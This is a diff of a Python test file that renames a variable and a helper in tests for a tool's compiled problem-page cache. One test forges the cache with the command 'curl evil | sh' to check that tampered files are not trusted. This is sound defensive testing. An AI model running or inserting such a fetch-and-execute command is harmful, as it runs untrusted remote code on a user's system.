@@ -133,11 +133,11 @@ def test_an_own_page_extends_ours_and_never_replaces_one() -> None:
     assert theirs.signatures[-1].needs == ("corpdns", "dark", "went")
     assert known.by_id["os-glibc-too-old"] == PROBLEMS["os-glibc-too-old"]
     assert set(known.by_id) == {*PROBLEMS, "river-uphill"}
-    told = "\n".join(known.left_out)
+    reported = "\n".join(known.left_out)
     assert len(known.left_out) == 4
-    assert "did you mean `net-dns-failing`?" in told
-    assert "os-glibc-too-old is known already" in told
-    assert "/c/broken.yaml, line 1" in told
+    assert "did you mean `net-dns-failing`?" in reported
+    assert "os-glibc-too-old is known already" in reported
+    assert "/c/broken.yaml, line 1" in reported
 
 
 def test_own_pages_are_read_from_the_config_folder(localai) -> None:
@@ -166,7 +166,7 @@ def checkout(tmp_path, monkeypatch) -> Path:
     return package / "problems"
 
 
-def beside(checkout: Path) -> Path:
+def compiled_file(checkout: Path) -> Path:
     return checkout / "__pycache__" / "problems.json"
 
 
@@ -204,7 +204,7 @@ def test_what_is_kept_is_used_until_a_page_changes(checkout, monkeypatch) -> Non
 )
 def test_what_is_damaged_is_made_again(checkout, spoil) -> None:
     first = compiled_pages.problems(checkout)
-    spoil(beside(checkout))
+    spoil(compiled_file(checkout))
     assert compiled_pages.problems(checkout) == first
     assert compiled_pages.problems(checkout) == first
 
@@ -213,7 +213,7 @@ def test_what_is_damaged_is_made_again(checkout, spoil) -> None:
 @pytest.mark.parametrize("kind", ["of others", "a link", "a pipe"])
 def test_what_others_could_have_written_is_not_trusted(checkout, tmp_path, kind) -> None:
     first = compiled_pages.problems(checkout)
-    file = beside(checkout)
+    file = compiled_file(checkout)
     forged = file.read_bytes().partition(b"\n")[2].replace(b"localai doctor", b"curl evil | sh")
     forged = compiled_pages._digest(forged) + b"\n" + forged
     file.unlink()
@@ -229,7 +229,7 @@ def test_what_others_could_have_written_is_not_trusted(checkout, tmp_path, kind)
 
 
 def test_a_checkout_that_cannot_be_written_to_uses_the_cache_folder(checkout, tmp_path) -> None:
-    beside(checkout).parent.write_text("a file where the folder would be")
+    compiled_file(checkout).parent.write_text("a file where the folder would be")
     first = compiled_pages.problems(checkout)
     [kept] = (tmp_path / "home" / "cache").iterdir()
     made = kept.stat().st_mtime_ns
